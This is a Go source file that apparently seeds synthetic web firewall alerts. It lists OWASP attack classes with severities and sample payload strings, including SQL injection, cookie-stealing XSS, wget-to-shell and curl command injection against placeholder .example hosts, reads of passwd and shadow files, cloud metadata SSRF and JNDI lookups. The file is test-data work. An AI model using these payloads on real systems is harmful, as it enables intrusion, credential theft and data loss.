package seed

// attack is a class of attacks after OWASP's list, with what such requests carry.
type attack struct {
	class, policy, item, severity string
	signatures                    []string // names of what matched
	payloads                      []string // %s is where something random goes
}

var attacks = []attack{
	{"SQL Injection", "Default Web Application Signatures Policy", "parameter", "high",
		[]string{"union select", "always true", "stacked query", "time delay"}, []string{
			"' OR '1'='1' -- %s", "%s' UNION ALL SELECT NULL,CONCAT(0x7e,version(),0x7e),NULL-- -", "1; DROP TABLE users_%s; --",
			"%s' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a) AND 'x'='x", "-1 UNION SELECT username,password FROM accounts WHERE '%s'<>''", "%s\"))/**/or/**/1=1#",
		}},
	{"Cross-Site Scripting", "Default Web Application Signatures Policy", "parameter", "high",
		[]string{"script element", "event handler", "javascript scheme"}, []string{
			"<script>fetch('//%s.example/'+document.cookie)</script>", "\"><img src=x onerror=alert('%s')>", "<svg/onload=eval(atob('%s'))>",
			"javascript:/*%s*/alert(document.domain)", "<iframe srcdoc='<script>parent.%s()</script>'>",
		}},
	{"Command Injection", "Default Stream Signatures Policy", "parameter", "high",
		[]string{"shell after separator", "command substitution"}, []string{
			"; cat /etc/passwd #%s", "| wget http://%s.example/x.sh -O- | sh", "$(curl -s %s.example)", "`id>/tmp/%s`", "&& powershell -enc %s",
		}},
	{"Path Traversal", "Default HTTP Protocol Signatures Policy", "url", "medium",
		[]string{"dot dot slash", "encoded dot dot slash"}, []string{
			"../../../../../../etc/passwd?%s", "..%%2f..%%2f..%%2fwindows%%2fwin.ini&%s", "....//....//....//proc/self/environ#%s", "/var/www/../../etc/shadow%%00%s",
		}},
	{"Remote File Inclusion", "Default Web Correlation Policy", "parameter", "high",
		[]string{"remote include"}, []string{"http://%s.example/shell.txt?", "php://filter/convert.base64-encode/resource=%s", "data://text/plain;base64,%s"}},
	{"Server-Side Request Forgery", "Default Web Application Signatures Policy", "parameter", "high",
		[]string{"metadata address", "local address"}, []string{"http://169.254.169.254/latest/meta-data/iam/%s", "http://127.0.0.1:6379/%s", "gopher://10.0.0.1:25/_%s"}},
	{"Template and Expression Injection", "Default Web Application Signatures Policy", "header", "high",
		[]string{"lookup expression", "template expression"}, []string{"${jndi:ldap://%s.example/a}", "{{7*7}}%s{{config}}", "#{T(java.lang.Runtime).getRuntime().exec('%s')}"}},
	{"Insecure Deserialization", "Default Web Application Signatures Policy", "body", "high",
		[]string{"serialized object"}, []string{"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA%s", "O:8:\"stdClass\":1:{s:4:\"%s\";i:1;}"}},
	{"XML External Entity", "Default Web Application Signatures Policy", "body", "medium",
		[]string{"external entity"}, []string{"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;%s</r>"}},
	{"Known Scanner", "Default HTTP Protocol Signatures Policy", "header", "low", []string{"scanner agents"}, []string{"probe-%s"}},
	{"Unknown Parameter", "Default Web Profile Policy", "parameter", "informative", nil, []string{"debug_%s=1"}},
	{"Parameter Type Violation", "Default Web Profile Policy", "parameter", "low", nil, []string{"%s"}},
	{"Illegal Byte in URL", "Default HTTP Protocol Policy", "url", "medium", nil, []string{"/%%c0%%ae/%s"}},
	{"Cookie Tampering", "Default Web Profile Policy", "cookie", "medium", nil, []string{"session=%s"}},
	{"Forceful Browsing", "Default Web Correlation Policy", "url", "low", nil, []string{"/.git/config?%s", "/wp-login.php?%s", "/backup-%s.zip", "/.env?%s"}},
}
